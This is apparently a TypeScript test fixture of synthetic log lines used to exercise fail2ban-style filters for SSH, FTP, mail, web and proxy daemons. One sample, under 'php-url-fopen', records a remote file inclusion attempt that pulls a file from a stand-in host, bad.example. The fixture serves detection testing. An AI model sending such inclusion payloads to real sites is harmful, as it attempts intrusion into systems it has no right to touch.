/** Lines of our own making, as the daemons of these filters log failures. */
export const handmadeLines: Readonly<Record<string, readonly string[]>> = {
  sshd: [
    "Nov 22 00:41:26 web1 sshd[7]: Invalid user alice from 192.0.2.7 port 4242",
    "Nov 22 00:41:26 web1 sshd[7]: error: maximum authentication attempts exceeded for invalid user bob from 2001:db8::7 port 4242 ssh2 [preauth]",
    "Nov 22 00:41:26 web1 sshd[7]: User carol from 192.0.2.7 not allowed because not listed in AllowUsers",
    "Nov 22 00:41:26 web1 sshd[7]: error: PAM: Authentication failure for dave from host.example",
  ],
  vsftpd: [
    "Nov 22 00:41:26 web1 vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=alice rhost=192.0.2.7  user=alice",
  ],
  postfix: [
    "Nov 22 00:41:26 web1 postfix/smtpd[7]: NOQUEUE: reject: RCPT from unknown[192.0.2.7]: 554 5.7.1 <a@b.example>: Relay access denied; from=<c@d.example> to=<a@b.example> proto=ESMTP helo=<x>",
  ],
  dropbear: ["Nov 22 00:41:26 web1 dropbear[7]: Bad password attempt for 'alice' from 192.0.2.7:4242"],
  "pam-generic": [
    "Nov 22 00:41:26 web1 login[7]: pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=tty1 ruser= rhost=192.0.2.7  user=alice",
  ],
  recidive: ["2026-11-22 00:41:26,123 fail2ban.actions        [812]: NOTICE  [sshd] Ban 192.0.2.7"],
  "nginx-http-auth": [
    '2026/11/22 00:41:26 [error] 812#812: *7 user "alice": password mismatch, client: 192.0.2.7, server: www.example, request: "GET / HTTP/1.1", host: "www.example"',
  ],
  "nginx-limit-req": [
    '2026/11/22 00:41:26 [error] 812#812: *7 limiting requests, excess: 1.000 by zone "one", client: 192.0.2.7, server: www.example, request: "GET / HTTP/1.1"',
  ],
  "apache-nohome": [
    "[Sun Nov 22 00:41:26.123456 2026] [core:error] [pid 812] [client 192.0.2.7:4242] AH00128: File does not exist: /home/www/~alice",
  ],
  "apache-badbots": ['192.0.2.7 - - [22/Nov/2026:00:41:26 +0000] "GET / HTTP/1.1" 200 512 "-" "EmailSiphon"'],
  "php-url-fopen": [
    '192.0.2.7 - - [22/Nov/2026:00:41:26 +0000] "GET /?page=http://bad.example/x.txt HTTP/1.1" 200 114 "-" "curl"',
  ],
  squid: [
    "1795308086.123      0 192.0.2.7 TCP_DENIED/403 4242 GET http://bad.example/ - HIER_NONE/- text/html",
  ],
  directadmin: ["2026:11:22-00:41:26: '192.0.2.7' 2 failed login attempts. Account 'alice'"],
  "xinetd-fail": ["Nov 22 00:41:26 web1 xinetd[7]: FAIL: ftp address from=192.0.2.7"],
};
